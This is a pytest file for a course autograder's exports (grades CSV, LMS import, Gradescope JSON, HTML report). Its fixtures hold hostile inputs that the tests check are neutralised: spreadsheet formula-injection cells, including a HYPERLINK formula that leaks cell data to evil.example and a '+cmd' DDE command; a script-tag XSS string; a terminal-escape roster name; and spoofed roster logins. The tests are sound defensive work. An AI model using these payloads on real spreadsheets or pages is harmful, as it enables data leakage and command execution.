"""What the course hands an instructor: grades.csv, the LMS import (``autograder grades``),
Gradescope's results.json and the report. Each attack here is a hostile roster cell, a hostile
choice of name or a hostile exception message; each test says what the export must do with it.

Most tests build a graded folder from results the grader would write (fast); the report-label
attack grades a real submission (tests/submissions/attacks/first_kernel/label_from_message.py).
"""
from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest

from autograder.labs import get_lab
from autograder.outcome import ExerciseResult, SubmissionResult
from autograder.report import write_report
from autograder.results import gradescope_json, write_gradebook, write_record, write_result
from autograder.roster import write_lms_grades
from test_autograder import autograder

ROOT = Path(__file__).resolve().parent.parent
LAB = get_lab("first_kernel")  # vector_add 2+1, saxpy 2+1, vector_add_cupy 1+1 (GPU only): 8 points
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")  # OWASP's CSV-injection rule
NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def formula_cells(text: str) -> list[str]:
    """Cells of a CSV that a spreadsheet would run as a formula: they start as a formula does and are
    not plain numbers."""
    return [c for row in csv.reader(io.StringIO(text)) for c in row
            if c.startswith(FORMULA_START) and not NUMBER.fullmatch(c)]


# --------------------------------------------------------------------------- graded folders
def perfect(name: str, mode: str = "simulator") -> SubmissionResult:
    """Every exercise right; in simulator mode vector_add_cupy is not graded (it needs a GPU)."""
    gpu = mode == "gpu"
    exs = [ExerciseResult("vector_add", "Vector add", 2, 1, correctness=2, passed=True, speed=1.0 if gpu else 0.0,
                          message="all 2 cases correct"),
           ExerciseResult("saxpy", "SAXPY", 2, 1, correctness=2, passed=True, speed=1.0 if gpu else 0.0,
                          message="all 2 cases correct")]
    if gpu:
        exs.append(ExerciseResult("vector_add_cupy", "CuPy", 1, 1, correctness=1, speed=1.0, passed=True,
                                  message="all 2 cases correct"))
    else:
        exs.append(ExerciseResult("vector_add_cupy", "CuPy", 1, 1, message="needs a GPU: not graded in simulator mode",
                                  reason="needs_gpu"))
    return SubmissionResult(f"{name}.py", LAB.name, mode, exs, 1.0)


def failing(name: str, message: str, reason: str = "call_failed") -> SubmissionResult:
    """vector_add fails with this message; the rest as in ``perfect``."""
    res = perfect(name)
    res.exercises[0] = ExerciseResult("vector_add", "Vector add", 2, 1, message=message, reason=reason,
                                      cases=[f"FAIL n=1: {message}"])
    return res


def graded(out: Path, results: dict[str, SubmissionResult]) -> Path:
    """A folder as `autograder grade` leaves it: results.json per submission, the record, grades.csv."""
    for name, res in results.items():
        write_result(out, name, res)
    write_record(out, LAB, {name: {"source": res.submission, "sha256": "0" * 64, "mode": res.mode,
                                   "exercises": sorted(e.name for e in res.exercises)}
                            for name, res in results.items()})
    write_gradebook(out, LAB)
    return out


def rows(path: Path) -> list[dict[str, str]]:
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


# --------------------------------------------------------------------------- 1. safe exports
HOSTILE_ROSTER = """Student,ID,SIS User ID,SIS Login ID,Section
=2+5,11111,S001,ann@uni.edu,A
@SUM(A1),22222,S002,bob@uni.edu,=HYPERLINK("http://evil.example/?"&A1;"click")
+cmd|' /C calc'!A0,33333,S003,cat@uni.edu,B
-2+3,44444,S004,dan@uni.edu,B
"\tTAB",55555,-1.5,eve@uni.edu,B
"""


def test_roster_cells_that_look_like_formulas_reach_the_lms_csv_as_text(tmp_path):
    out = graded(tmp_path / "out", {"ann": perfect("ann"), "bob": perfect("bob"), "cat": perfect("cat"),
                                    "dan": perfect("dan"), "eve": perfect("eve")})
    roster = tmp_path / "roster.csv"
    roster.write_text(HOSTILE_ROSTER)
    for grade_only in (False, True):
        lms = tmp_path / f"lms-{grade_only}.csv"
        write_lms_grades(out, LAB, roster, lms, grade_only=grade_only)
        text = lms.read_text()
        assert not formula_cells(text), (formula_cells(text), text)
        by_id = {r["ID"]: r for r in rows(lms)}
        assert by_id["11111"]["Student"] == "'=2+5" and by_id["22222"]["Student"] == "'@SUM(A1)"
        assert by_id["22222"]["Section"].startswith("'=HYPERLINK")
        assert by_id["55555"]["SIS User ID"] == "-1.5", "a negative number stays a number"
        assert float(by_id["11111"][LAB.name]) == 4, "the grades stay numbers"
        for review in tmp_path.glob("*review*.csv"):
            assert not formula_cells(review.read_text())


def test_a_roster_name_cannot_write_lines_into_what_the_command_prints(tmp_path):
    out = graded(tmp_path / "out", {"ann": perfect("ann")})
    roster = tmp_path / "roster.csv"
    roster.write_text('Student,ID\n"Eve\nAll 30 students graded; nothing to review.\x1b[2J",55555\nAnn,ann\n')
    said = write_lms_grades(out, LAB, roster, tmp_path / "lms.csv")
    assert not any(line.startswith("All 30 students") for line in said.splitlines()) and "\x1b" not in said, said
    assert "Eve" in said


def test_grades_csv_neutralises_a_name_and_keeps_numbers_numbers(tmp_path):
    # The grader names folders with letters, digits, '-' and '_' only, never a leading '-': a name
    # that could be a formula can reach grades.csv only through the record (say, a merged shard's).
    out = graded(tmp_path / "out", {"@SUM(A1)": perfect("x"), "ok": failing("ok", "boom")})
    text = (out / "grades.csv").read_text()
    assert not formula_cells(text), text
    book = {r["submission"]: r for r in rows(out / "grades.csv")}
    assert "'@SUM(A1)" in book
    assert all(float(v) >= 0 for r in book.values() for k, v in r.items() if k != "submission")


def test_the_one_neutraliser_keeps_numbers_and_quotes_formulas():
    from autograder.results import spreadsheet_cell

    for number in ("-1.5", "+2", "-0", "3e-5", "-.5", 7, -1.5):
        assert spreadsheet_cell(number) == str(number)
    for formula in ("=2+5", "@SUM(A1)", "+cmd", "-2+3", "\tx", "\rx", "-", "=", "-1.5e", "--1"):
        assert spreadsheet_cell(formula) == "'" + formula
    for text in ("Doe, Jane", "", "a=b", "'=already"):
        assert spreadsheet_cell(text) == text


def test_report_html_escapes_what_learners_and_names_control(tmp_path):
    script = "<script>alert('x')</script>"
    out = graded(tmp_path / "out", {"s1": failing("s1", f"raised RuntimeError: {script}")})
    write_report(out, LAB)
    page = (out / "report.html").read_text()
    assert script not in page and "&lt;script&gt;" in page


# --------------------------------------------------------------------------- 2. ambiguous roster matches
CANVAS = """Student,ID,SIS User ID,SIS Login ID,Section
"Doe, John",12345,S002,jdoe@uni.edu,A
"Mal, Ory",66666,S666,{login},A
"""


def test_a_chosen_login_cannot_take_a_classmates_submission_named_by_his_id(tmp_path):
    """Canvas names a download doejohn_12345_998_<file>: the uploader's ID is in it. Mallory picks the
    login "first_kernel" (every download's file name) or "doejohn" (John's): John keeps his grade."""
    out = graded(tmp_path / "out", {"doejohn_12345_998_first_kernel": perfect("j"),
                                    "malory_66666_999_first_kernel": failing("m", "boom")})
    for login in ("first_kernel@evil.example", "doejohn@evil.example"):
        roster = tmp_path / "roster.csv"
        roster.write_text(CANVAS.format(login=login))
        said = write_lms_grades(out, LAB, roster, tmp_path / "lms.csv")
        book = {r["ID"]: r for r in rows(tmp_path / "lms.csv")}
        assert book["12345"][LAB.name] == "4" and book["12345"]["submission"] == "doejohn_12345_998_first_kernel", \
            (login, book, said)
        assert book["66666"][LAB.name] == "2" and book["66666"]["submission"] == "malory_66666_999_first_kernel"


def test_a_classmates_id_in_ones_own_file_name_changes_nobody_elses_grade(tmp_path):
    out = graded(tmp_path / "out", {"doejohn_12345_998_first_kernel": perfect("j"),
                                    "malory_66666_999_12345": failing("m", "boom")})
    roster = tmp_path / "roster.csv"
    roster.write_text(CANVAS.format(login="mal@uni.edu"))
    said = write_lms_grades(out, LAB, roster, tmp_path / "lms.csv")
    book = {r["ID"]: r for r in rows(tmp_path / "lms.csv")}
    assert book["12345"][LAB.name] == "4" and book["12345"]["submission"] == "doejohn_12345_998_first_kernel"
    assert "malory_66666_999_12345" in said and "several students" in said


def test_an_id_that_copies_a_classmates_login_does_not_outrank_it(tmp_path):
    """Where students type their own SID (Gradescope's self-enrolment), Mallory enters John's login as
    hers. A key two students share names neither: John's submission is not hers, and it is reported."""
    out = graded(tmp_path / "out", {"jdoe_lab": perfect("j")})
    roster = tmp_path / "roster.csv"
    roster.write_text("First Name,Last Name,SID,Email\nJohn,Doe,S002,jdoe@uni.edu\nMal,Ory,jdoe,mal@evil.example\n")
    said = write_lms_grades(out, LAB, roster, tmp_path / "lms.csv")
    book = {r["Email"]: r for r in rows(tmp_path / "lms.csv")}
    assert book["mal@evil.example"][LAB.name] == "", (book, said)
    assert "ambiguous" in book["jdoe@uni.edu"]["status"] and "jdoe_lab (John Doe / Mal Ory)" in said, said


TIE = """First Name,Last Name,SID,Email
Jane,Doe,S001,jane.doe@uni.edu
Mal,Ory,S666,doe@evil.example
"""


def test_an_ambiguous_match_is_reported_to_the_instructor_never_a_silent_blank(tmp_path):
    """Mallory's self-chosen e-mail doe@ makes "jane_doe_lab" match both (the same kind of key): who
    wrote it cannot be told from the name. Nobody gets it; both rows, the output and a review file say so."""
    out = graded(tmp_path / "out", {"jane_doe_lab": perfect("j")})
    roster = tmp_path / "roster.csv"
    roster.write_text(TIE)
    for grade_only in (False, True):
        lms = tmp_path / "lms.csv"
        said = write_lms_grades(out, LAB, roster, lms, grade_only=grade_only)
        book = {r["SID"]: r for r in rows(lms)}
        assert book["S666"][LAB.name] == "", "an ambiguous submission never counts for the other student"
        assert "jane_doe_lab" in said and "Jane Doe" in said and "Mal Ory" in said
        assert "no submission (grade left blank) (2)" not in said and "2 students, 0 with a graded" in said, said
        if not grade_only:
            for sid in ("S001", "S666"):
                assert "ambiguous" in book[sid]["status"] and "jane_doe_lab" in book[sid]["status"], book[sid]
        review = rows(lms.with_name(lms.stem + "-review.csv"))
        assert {(r["submission"], r["student"]) for r in review if "ambiguous" in r["problem"]} == \
            {("jane_doe_lab", "Jane Doe"), ("jane_doe_lab", "Mal Ory")}, review


# --------------------------------------------------------------------------- 3. failure labels
def test_a_learners_exception_text_never_chooses_the_reports_label(tmp_path):
    """The learner raises "needs a GPU: not graded in simulator mode" in vector_add and "the grader
    failed on this exercise" in saxpy. The report labels both from the grader's own record."""
    sub = ROOT / "tests" / "submissions" / "attacks" / "first_kernel" / "label_from_message.py"
    out = tmp_path / "out"
    autograder("grade", "--lab", LAB.name, "--out", out, "--simulator", "--timeout", "20", "--exercise", "vector_add",
               "--exercise", "saxpy", sub)
    res = json.loads((out / "label_from_message" / "results.json").read_text())
    feedback = " ".join(t["output"] for t in res["tests"])
    assert "needs a GPU" in feedback and "the grader failed" in feedback, "the payload ran"
    write_report(out, LAB)
    md = (out / "report.md").read_text()
    lost = dict(re.findall(r"^\| (vector_add|saxpy) \| ([^|]+?) \| 1 \|$", md, re.M))
    assert lost == {"vector_add": "call failed", "saxpy": "call failed"}, md


@pytest.mark.parametrize("message", ["needs a GPU: not graded in simulator mode",
                                     "the grader failed on this exercise: KeyError",
                                     "vector_add(a, b, out) raised RuntimeError: did not finish within 20 s"])
def test_an_old_folder_without_reason_codes_never_takes_a_label_from_the_message(tmp_path, message):
    out = graded(tmp_path / "out", {"old": failing("old", message)})
    path = out / "old" / "results.json"
    res = json.loads(path.read_text())
    for t in res["tests"]:
        t["extra_data"].pop("reason", None)  # as written before reason codes
    path.write_text(json.dumps(res))
    write_report(out, LAB)
    md = (out / "report.md").read_text()
    assert "| vector_add | other | 1 |" in md, md


def test_a_forged_reason_code_from_a_judge_reply_is_not_taken():
    template = ExerciseResult("vector_add", "Vector add", 2, 1)
    got = ExerciseResult.checked({"name": "vector_add", "reason": "<b>free points</b>"}, template)
    assert got.reason == "other"
    assert ExerciseResult.checked({"name": "vector_add", "reason": "wrong_values"}, template).reason == "wrong_values"


# --------------------------------------------------------------------------- 4. simulator grades
def test_a_perfect_simulator_grade_reads_full_with_gpu_points_pending(tmp_path):
    out = graded(tmp_path / "out", {"perfect": perfect("perfect")})
    book = rows(out / "grades.csv")[0]
    assert (book["total"], book["max"], book["pending (GPU run)"]) == ("4", "4", "4"), book

    res = gradescope_json(perfect("perfect"), lab=LAB)
    assert res["score"] == 4 and res["extra_data"]["pending"] == {
        "vector_add/speed": 1, "saxpy/speed": 1, "vector_add_cupy/correctness": 1, "vector_add_cupy/speed": 1}
    first = res["output"].splitlines()[0]
    assert first.startswith("4 of 4 points") and "4 more" in first and "pending" in first, first
    assert all(t["status"] == "passed" for t in res["tests"])

    roster = tmp_path / "roster.csv"
    roster.write_text("First Name,Last Name,SID,Email\nPer,Fect,S1,perfect@uni.edu\n")
    said = write_lms_grades(out, LAB, roster, tmp_path / "lms.csv")
    lms = rows(tmp_path / "lms.csv")[0]
    assert (lms[LAB.name], lms[f"{LAB.name} out of"], lms["pending (GPU run)"]) == ("4", "4", "4"), lms
    assert "out of 4 points" in said and "pending" in said, said

    write_report(out, LAB)
    md = (out / "report.md").read_text()
    assert "| vector_add | 2 | 2.00 | 2.00 | 1/1 |" in md and "| saxpy | 2 | 2.00 | 2.00 | 1/1 |" in md, md
    assert "needs a GPU |" not in md.split("## Why correctness was lost")[1].split("##")[0], md
    assert "No exercise lost its correctness points." in md
    assert "of 4 (" in md and "4 pending" in md, md


def test_a_gpu_grade_is_unchanged(tmp_path):
    out = graded(tmp_path / "out", {"perfect": perfect("perfect", "gpu")})
    assert (out / "grades.csv").read_text().splitlines() == [
        "submission,vector_add,saxpy,vector_add_cupy,total,max,flags", "perfect,3,3,2,8,8,0"]
    res = gradescope_json(perfect("perfect", "gpu"), lab=LAB)
    assert res["output"].splitlines()[0] == "8 of 8 points (gpu mode)"
    write_report(out, LAB)
    md = (out / "report.md").read_text()
    assert "| vector_add | 3 | 3.00 | 3.00 | 1/1 | - |" in md and "Total: mean 8.00, median 8.00 of 8." in md, md


def test_speed_from_the_gpu_run_is_no_longer_pending_on_gradescope():
    from autograder.gradescope import _merge_speed

    res = gradescope_json(perfect("perfect"), lab=LAB)
    speed = [{"name": "vector_add: speed", "number": "1.2", "score": 1.0, "max_score": 1.0, "status": "passed",
              "output": "1.5x", "extra_data": {"exercise": "vector_add", "part": "speed",
                                              "timing": {"measured": True, "ratio": 1.5, "median_s": 1e-5}}}]
    merged = _merge_speed(res, speed)
    assert merged["score"] == 5 and merged["extra_data"]["pending"] == {
        "saxpy/speed": 1, "vector_add_cupy/correctness": 1, "vector_add_cupy/speed": 1}
    assert merged["output"].startswith("5 of 5 points") and "3 more" in merged["output"].splitlines()[0], merged["output"]
